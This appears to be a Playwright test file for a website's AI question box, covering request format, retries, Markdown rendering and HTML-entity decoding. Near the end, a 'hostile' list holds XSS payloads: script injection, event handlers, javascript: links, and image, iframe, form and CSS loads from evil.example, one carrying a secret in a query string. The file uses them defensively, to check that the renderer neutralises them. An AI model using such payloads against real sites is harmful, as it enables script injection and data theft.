import type { Page, Request, Route } from 'playwright'
import { expect, test } from 'vitest'
import { useBrowser, visit, type Visit, type VisitOptions } from './browser.ts'
import { bodyOf } from './firefox.ts'
import { follow } from './router.ts'
import { sharedVisit } from './shared-visit.ts'
import { pass, settle, stopClock } from './states.ts'

useBrowser()

const emptyResult = 'Sorry, I could not find an answer to that.'
const exception = 'Sorry, your question could not be answered just now. Please try again later.'

type Service = (route: Route, request: Request) => unknown

/** A chat service that answers with `content`. */
const says =
  (content: string): Service =>
  (route) =>
    route.fulfill({ json: { messages: [{ content }], conversationId: 'g-1' } })

/** Opens the home page with the focus in the hydrated question box. */
const atBox = (
  service: Service | undefined,
  use: (visit: Visit) => Promise<void>,
  options: VisitOptions,
) =>
  visit(
    '/',
    async (visiting) => {
      await reach(visiting)
      await use(visiting)
    },
    {
      ...options,
      before: async (page) => {
        await options.before?.(page)
        if (service !== undefined) await page.route('**/api/langflow', service)
      },
    },
  )

async function reach({ page }: Visit): Promise<void> {
  await input(page).focus()
  await page.locator('[data-live=intent][data-hydrated]').waitFor()
  await settle(page)
}

const unasked: Service = () => expect.unreachable('Nothing was asked')
let answering = unasked

const atSharedBox = sharedVisit(
  '/',
  {
    reducedMotion: 'reduce',
    before: (page) => page.route('**/api/langflow', (...call) => answering(...call)),
  },
  reach,
)

/** Uses a shared page on which earlier tests may have asked; the box is empty and shows no answer. */
const atEmptyBox = (service: Service, use: (visit: Visit) => Promise<void>) =>
  atSharedBox(async (visiting) => {
    const { page } = visiting
    answering = service
    await input(page).fill('')
    await input(page).press('Escape')
    await expect.poll(() => status(page).innerText()).toBe('')
    await use(visiting)
    answering = unasked
  })

const input = (page: Page) => page.locator('input[name=question]')
const button = (page: Page) => page.getByRole('button', { name: 'Ask' })
const status = (page: Page) => page.locator('.question-box-status')
const answer = (page: Page) => page.locator('.question-box-answer')
const canvas = (page: Page) => page.locator('.question-box canvas')

const isFocused = (page: Page) => input(page).evaluate((field) => field === document.activeElement)

/** Clicks the button even if it is marked as disabled, as a visitor may do. */
const pressButton = (page: Page) => button(page).click({ force: true })

async function askFor(page: Page, question: string): Promise<void> {
  await input(page).fill(question)
  await page.keyboard.press('Enter')
}

test('a click on the button focuses the input and sends nothing if the question is empty', () =>
  atEmptyBox(unasked, async ({ page, console }) => {
    for (const blank of ['', '   ']) {
      await input(page).fill(blank)
      expect(await button(page).getAttribute('aria-disabled')).toBe('true')
      await page.keyboard.press('Enter')
      await pressButton(page)
      expect(await isFocused(page)).toBe(true)
      expect(await status(page).innerText()).toBe('')
      expect(new URL(page.url()).pathname).toBe('/')
    }
    await input(page).fill('x')
    expect(await button(page).getAttribute('aria-disabled')).toBe('false')
    expect(console).toEqual([])
  }))

test('a click on the button before any script has loaded focuses the input @nightly', () =>
  visit('/', async ({ page }) => {
    await pressButton(page)
    await expect.poll(() => isFocused(page)).toBe(true)
    expect(new URL(page.url()).search).toBe('')
  }))

test('a question is posted to /api/langflow as JSON with one user message and the webhook id', async () => {
  const requests: Request[] = []
  await atEmptyBox(
    (route, request) => {
      requests.push(request)
      return says('Yes.')(route, request)
    },
    async ({ page }) => {
      await input(page).fill('  What does it cost?  ')
      await button(page).click()
      await expect.poll(() => answer(page).innerText()).toBe('Yes.')
      expect(requests).toHaveLength(1)
      const [request] = requests
      expect(request?.method()).toBe('POST')
      expect(await request?.allHeaders()).toMatchObject({
        'content-type': 'application/json',
        accept: 'application/json',
      })
      expect(JSON.parse(bodyOf(request))).toEqual({
        messages: [{ role: 'user', content: 'What does it cost?' }],
        webhookId: 'website',
      })
    },
  )
})

test('a submitted question dissolves into particles on an 800x800 canvas while the input is blocked @nightly', () =>
  atBox(
    says('Yes.'),
    async ({ page, console }) => {
      await askFor(page, 'How long does a watch take?')
      await shownFirst(page)
      expect(await canvas(page).getAttribute('width')).toBe('800')
      expect(await canvas(page).getAttribute('height')).toBe('800')
      const line = await particles(page)
      expect(line.particles).toBeGreaterThan(1000)
      await pass(page, 400)
      expect(await input(page).getAttribute('readonly')).toBe('')
      await page.keyboard.type('dazwischen')
      expect(await input(page).inputValue()).toBe('How long does a watch take?')
      expect((await particles(page)).height).toBeGreaterThan(line.height + 10)

      await pass(page, 900)
      await expect.poll(() => canvas(page).count()).toBe(0)
      expect(await input(page).inputValue()).toBe('')
      await expect.poll(() => input(page).getAttribute('readonly')).toBe(null)
      expect(await isFocused(page)).toBe(true)
      await page.keyboard.type('Und')
      expect(await input(page).inputValue()).toBe('Und')

      await askFor(page, 'Lange Fragen zerfallen so schnell wie kurze. '.repeat(20))
      await shownFirst(page)
      await pass(page, 1300)
      await expect.poll(() => canvas(page).count()).toBe(0)
      expect(await input(page).inputValue()).toBe('')
      expect(console).toEqual([])
    },
    { before: stopClock },
  ))

/** Waits until the status is shown; the particles are made from the text afterwards. */
async function shownFirst(page: Page) {
  expect(await canvas(page).count()).toBe(0)
  expect(await status(page).innerText()).not.toBe('')
  await expect
    .poll(async () => {
      await pass(page, 20)
      return canvas(page).count()
    })
    .toBe(1)
}

/** Returns the number of visible pixels of the canvas, and the distance between the first and the last row. */
const particles = (page: Page) =>
  canvas(page).evaluate((element) => {
    if (!(element instanceof HTMLCanvasElement)) throw new Error('No canvas')
    const image = element.getContext('2d')?.getImageData(0, 0, 800, 800).data ?? []
    const rows = [...image].flatMap((value, index) =>
      index % 4 === 3 && value > 0 ? [Math.floor(index / 4 / 800)] : [],
    )
    return { particles: rows.length, height: (rows.at(-1) ?? 0) - (rows[0] ?? 0) }
  })

test('the question box shows “Finding an answer” while it waits for an answer', async () => {
  const held: Route[] = []
  await atEmptyBox(
    (route) => held.push(route),
    async ({ page }) => {
      await askFor(page, 'What is it good for?')
      await expect.poll(() => status(page).innerText()).toBe('Finding an answer')
      expect(await status(page).getAttribute('role')).toBe('status')
      await expect.poll(() => held.length).toBe(1)
      await held[0]?.fulfill({ json: { response: 'Time.' } })
      await expect.poll(() => status(page).innerText()).toBe('Time.')
    },
  )
})

test('an answer is rendered as Markdown with links that open in a new tab', () =>
  atEmptyBox(
    says(
      'Yes, **at once**:\n\n- one\n- two\n\nMore [here](/repairs) and [there](https://a.example/).',
    ),
    async ({ page, console }) => {
      await askFor(page, 'Is that possible?')
      await expect.poll(() => answer(page).locator('strong').textContent()).toBe('at once')
      expect(await answer(page).locator('li').allTextContents()).toEqual(['one', 'two'])
      const links = await answer(page)
        .locator('a')
        .evaluateAll((all) => all.map(({ outerHTML }) => outerHTML.replace(/>.*/, '>')))
      expect(links).toEqual([
        '<a href="/repairs" target="_blank" rel="noopener noreferrer">',
        '<a href="https://a.example/" target="_blank" rel="noopener noreferrer">',
      ])
      const [tab] = await Promise.all([
        page.context().waitForEvent('page'),
        answer(page).locator('a').first().click(),
      ])
      await tab.waitForURL('**/repairs')
      await tab.close()
      expect(new URL(page.url()).pathname).toBe('/')
      expect(console).toEqual([])
    },
  ))

test('an empty answer is shown as an error in red', () =>
  atEmptyBox(says(' \n '), async ({ page }) => {
    await askFor(page, 'Hm?')
    await expect.poll(() => status(page).innerText()).toBe(emptyResult)
    await expect.poll(() => isRed(page)).toBe(true)
  }))

const isRed = (page: Page) =>
  page.locator('.question-box-error').evaluate((error) => {
    const pixel = new OffscreenCanvas(1, 1).getContext('2d')
    if (pixel === null) return undefined
    pixel.fillStyle = getComputedStyle(error).color
    pixel.fillRect(0, 0, 1, 1)
    const [red = 0, green = 0, blue = 0] = pixel.getImageData(0, 0, 1, 1).data
    return red > 1.5 * green && red > 1.5 * blue
  })

test('a failed question is repeated after 1000, 2000 and 4000 ms, then an error is shown in red', async () => {
  let calls = 0
  await atBox(
    (route) => route.fulfill({ status: 503, json: { error: 'Later.' } }),
    async ({ page }) => {
      page.on('response', (response) => {
        if (response.url().endsWith('/api/langflow') && response.status() === 503) calls += 1
      })
      await askFor(page, 'Are you there?')
      await expect.poll(() => calls).toBe(1)
      for (const [retry, wait] of [1000, 2000, 4000].entries()) {
        await settled(page)
        await pass(page, wait - 1)
        await settled(page)
        expect(calls).toBe(retry + 1)
        expect(await status(page).innerText()).toBe('Finding an answer')
        await pass(page, 1)
        await expect.poll(() => calls).toBe(retry + 2)
      }
      await expect.poll(() => status(page).innerText()).toBe(exception)
      await expect.poll(() => isRed(page)).toBe(true)
      await pass(page, 20_000)
      expect(calls).toBe(4)
    },
    { before: stopClock, reducedMotion: 'reduce' },
  )
})

/** Waits until the page has processed the last response. */
async function settled(page: Page): Promise<void> {
  await page.evaluate(() => fetch('/').then((response) => response.text()))
  await settle(page)
}

test('typing, Escape or a click outside the form clears an answer or error; a click inside the form does not', () => {
  let content = 'Yes.'
  return atEmptyBox(
    (route, request) => says(content)(route, request),
    async ({ page }) => {
      const outcome = () => status(page).innerText()
      const acts = [
        () => input(page).press('w'),
        () => page.locator('h1').click(),
        () => input(page).press('Escape'),
      ]
      for (const act of acts) {
        for (content of ['Yes.', '']) {
          await askFor(page, 'Und nun?')
          await expect.poll(outcome).toBe(content || emptyResult)
          await status(page).click()
          await settle(page)
          expect(await outcome()).toBe(content || emptyResult)
          await act()
          await expect.poll(outcome).toBe('')
        }
      }
      expect(await input(page).inputValue()).toBe('')
    },
  )
})

test('a new question clears the previous error and starts loading', async () => {
  const held: Route[] = []
  await atEmptyBox(
    (route) => held.push(route),
    async ({ page }) => {
      await askFor(page, 'First question')
      await expect.poll(() => held.length).toBe(1)
      await page.keyboard.type('Second question')
      await held[0]?.fulfill({ json: {} })
      await expect.poll(() => status(page).innerText()).toBe(emptyResult)
      await page.keyboard.press('Enter')
      await expect.poll(() => status(page).innerText()).toBe('Finding an answer')
      await expect.poll(() => held.length).toBe(2)
      await held[1]?.fulfill({ json: {} })
    },
  )
})

test('the answer to an earlier question is ignored', async () => {
  const held: Route[] = []
  await atEmptyBox(
    (route, request) =>
      held.length === 0 ? held.push(route) : says('Second answer')(route, request),
    async ({ page }) => {
      await askFor(page, 'First question')
      await expect.poll(() => held.length).toBe(1)
      await askFor(page, 'Second question')
      await expect.poll(() => status(page).innerText()).toBe('Second answer')
      await held[0]?.fulfill({ json: { response: 'First answer' } }).catch(() => {})
      await settled(page)
      expect(await status(page).innerText()).toBe('Second answer')
    },
  )
})

/** Records searchVisibilityChange events as `heard` in the page, before it loads. */
const listenIn = (page: Page) =>
  page.addInitScript(() => {
    const heard: unknown[] = []
    Object.assign(globalThis, { heard })
    addEventListener('searchVisibilityChange', (event) => {
      if (event instanceof CustomEvent) heard.push(event.detail.isVisible)
    })
  })

const eventsOn = (page: Page) => page.evaluate('heard')

const scrollBy = (page: Page, top: number) =>
  page.evaluate((to) => scrollTo({ top: to, behavior: 'instant' }), top)

test('searchVisibilityChange tells whether the question box is on screen, before and after hydration @nightly', () =>
  visit(
    '/',
    async (visiting) => {
      const { page } = visiting
      await expect.poll(() => eventsOn(page)).toEqual([true])
      await scrollBy(page, 3000)
      await expect.poll(() => eventsOn(page)).toEqual([true, false])
      await scrollBy(page, 0)
      await expect.poll(() => eventsOn(page)).toEqual([true, false, true])
      expect(await page.locator('[data-live=intent][data-hydrated]').count()).toBe(0)

      await reach(visiting)
      await scrollBy(page, 3000)
      await expect.poll(() => eventsOn(page)).toEqual([true, false, true, false])
      await scrollBy(page, 0)
      await expect.poll(() => eventsOn(page)).toEqual([true, false, true, false, true])
    },
    { before: listenIn },
  ))

test('searchVisibilityChange is sent for a question box that the router shows and removes @nightly', () =>
  visit(
    '/ask',
    async ({ page }) => {
      await expect.poll(() => eventsOn(page)).toEqual([true])
      await page.evaluate('sameDocument = true')
      for (const [path, announced] of [
        ['/', [true, false, true]],
        ['/blog', [true, false, true, false]],
      ] as const) {
        const link = page.locator(`.footer a[href="${path}"], .nav-home[href="${path}"]`).first()
        await follow(link)
        await page.waitForURL(`**${path}`)
        await expect.poll(() => eventsOn(page)).toEqual(announced)
      }
      expect(await page.evaluate('sameDocument')).toBe(true)
    },
    { before: listenIn, reducedMotion: 'reduce' },
  ))

/** Attacks of a hostile service; none of them may run, load or link to another site. */
const hostile = [
  '<script>globalThis.pwned = true</script>',
  '<img src="https://evil.example/a.png" onerror="globalThis.pwned = true">',
  '![Bild](https://evil.example/b.png?d=geheim)',
  '![Bild][b]\n\n[b]: https://evil.example/c.png',
  '[klick](javascript:globalThis.pwned=true)',
  '[klick](JaVa&#x53;cript:globalThis.pwned=true)',
  '[klick](data:text/html,<script>alert(1)</script>)',
  '[klick](vbscript:x)',
  '[klick](//evil.example/x)',
  String.raw`[klick](/\evil.example/x)`,
  '<javascript:globalThis.pwned=true>',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/"><input name="q"><button>Los</button></form>',
  '<svg onload="globalThis.pwned = true"><use href="https://evil.example/d.svg#x"></use></svg>',
  '<style>@import "https://evil.example/e.css"</style>',
  '<a href="https://evil.example/" onclick="globalThis.pwned = true">Link</a>',
]

test('an answer cannot run scripts, load images, add forms or link to unsafe schemes', () =>
  atEmptyBox(says(hostile.join('\n\n')), async ({ page, console }) => {
    const elsewhere: string[] = []
    const own = new URL(page.url()).origin
    const note = (request: Request) => {
      if (new URL(request.url()).origin !== own) elsewhere.push(request.url())
    }
    page.on('request', note)
    await askFor(page, 'Was nun?')
    await expect.poll(() => answer(page).locator('p').count()).toBeGreaterThan(1)
    await settled(page)
    page.off('request', note)
    expect(await page.evaluate('globalThis.pwned')).toBe(undefined)
    const elements = await answer(page)
      .locator('*')
      .evaluateAll((all) => [...new Set(all.map(({ localName }) => localName))])
    expect(elements.toSorted()).toEqual(['a', 'p', 'span'])
    const targets = await answer(page)
      .locator('a')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href')))
    expect(targets).toEqual(['/%5Cevil.example/x'])
    expect(elsewhere).toEqual([])
    expect(console).toEqual([])
  }))

/** Answers of services and their expected visible text; HTML is shown as text. */
const written: [says: string, reads: string][] = [
  ['Beratung &amp; Umsetzung', 'Beratung & Umsetzung'],
  ['100&nbsp;%', '100\u00a0%'],
  ['M&auml;rz, &Ouml;l, Stra&szlig;e', 'März, Öl, Straße'],
  ['9,95&nbsp;&euro;', '9,95\u00a0€'],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', '<script>alert(1)</script>'],
  ['&bdquo;Ja&ldquo; &ndash; sofort&hellip;', '„Ja“ – sofort…'],
  ['&copy; 2026 &reg; &trade;', '© 2026 ® ™'],
  ['&#228;&#xF6;&#8364;', 'äö€'],
  ['&quot;Nein&quot;, &apos;doch&apos;', '"Nein", \'doch\''],
  ['&notit; &nichts; &; &amp', '&notit; &nichts; &; &amp'],
  ['&NotEqualTilde; &CounterClockwiseContourIntegral;', '\u2242\u0338 ∳'],
  ['&amp;amp; bleibt', '&amp; bleibt'],
  ['Frag&shy;lich', 'Frag\u00adlich'],
  ['&semi;&colon;&num;', ';:#'],
  ['**Kosten &amp; Nutzen**', 'Kosten & Nutzen'],
  ['*&Auml;nderung*', 'Änderung'],
  ['- Miete &euro;\n- Kauf &pound;', 'Miete € Kauf £'],
  ['1. erst &rarr;\n2. dann &larr;', 'erst → dann ←'],
  ['## Ablauf &amp; Dauer', 'Ablauf & Dauer'],
  ['[Preise &amp; Pakete](/repairs)', 'Preise & Pakete'],
  ['[Suche](https://a.example/?a=1&amp;b=2)', 'Suche'],
  ['[Titel](/kontakt "Fragen &amp; Antworten")', 'Titel'],
  ['[weiter][ziel]\n\n[ziel]: /blog?a&amp;b', 'weiter'],
  ['<https://a.example/?q=ki&amp;x>', 'https://a.example/?q=ki&amp;x'],
  ['[mail](mailto:kontakt@a.example)', 'mail'],
  ['`a &amp;&amp; b`', 'a &amp;&amp; b'],
  ['```html\n<p>&nbsp;</p>\n```', '<p>&nbsp;</p>'],
  ['```&auml;\nx < y && z\n```', 'x < y && z'],
  ['So:\n\n    eingerückt &amp; roh', 'So: eingerückt &amp; roh'],
  ['``Akzent ` darin``', 'Akzent ` darin'],
  ['<b>fett</b> &amp; <i>schräg</i>', '<b>fett</b> & <i>schräg</i>'],
  ['<p>Absatz &amp; mehr</p>', '<p>Absatz &amp; mehr</p>'],
  ['Zeile<br>Zeile &amp; Zeile', 'Zeile<br>Zeile & Zeile'],
  ['vor <!-- &amp; --> nach', 'vor <!-- &amp; --> nach'],
  [
    '<table><tr><td>&nbsp;</td></tr></table>\n\nDanach &amp; fertig',
    '<table><tr><td>&nbsp;</td></tr></table> Danach & fertig',
  ],
  ['<a href="/x?a&amp;b">Verweis &amp; Text</a>', '<a href="/x?a&amp;b">Verweis & Text</a>'],
  ['> Zitat &laquo;so&raquo;', 'Zitat «so»'],
  ['Wenn a &lt; b und b &gt; c &amp;&amp; d', 'Wenn a < b und b > c && d'],
  [String.raw`\&amp; bleibt stehen \<b\>`, '&amp; bleibt stehen <b>'],
  ['&Uuml;ber &alpha;, &Sigma; &infin; &check;', 'Über α, Σ ∞ ✓'],
]

test('forty answers with entities, HTML, links and code are shown as intended @nightly', () => {
  let content = ''
  return atEmptyBox(
    (route, request) => says(content)(route, request),
    async ({ page, console }) => {
      expect(written).toHaveLength(40)
      for (const [index, [text, reads]] of written.entries()) {
        content = `${text}\n\nEnde ${index}.`
        await askFor(page, 'Und?')
        await answer(page)
          .locator('p', { hasText: `Ende ${index}.` })
          .waitFor()
        expect({ text, reads: await readText(page) }).toEqual({ text, reads })
      }
      expect(console).toEqual([])
    },
  )
})

/** Returns the text of the answer without its last paragraph and without texts for screen readers. */
const readText = (page: Page) =>
  answer(page).evaluate((element) => {
    const copy = element.cloneNode(true)
    if (!(copy instanceof Element)) return undefined
    copy.lastElementChild?.remove()
    for (const note of copy.querySelectorAll('.visually-hidden')) note.remove()
    return copy.textContent.replace(/[ \n]+/g, ' ').trim()
  })

test('the table of HTML entities is loaded with the first answer that contains one @nightly', async () => {
  const fetched: string[] = []
  let content = 'Yes.'
  await atBox(
    (route, request) => says(content)(route, request),
    async ({ page }) => {
      page.on('request', (request) => fetched.push(new URL(request.url()).pathname))
      const tables = () => fetched.filter((path) => /\/assets\/character-entities-/.test(path))
      await askFor(page, 'Ohne?')
      await expect.poll(() => answer(page).innerText()).toBe('Yes.')
      expect(tables()).toEqual([])
      content = 'Yes &amp; no.'
      await askFor(page, 'Mit?')
      await expect.poll(() => answer(page).innerText()).toBe('Yes & no.')
      expect(tables()).toHaveLength(1)
    },
    { reducedMotion: 'reduce' },
  )
})
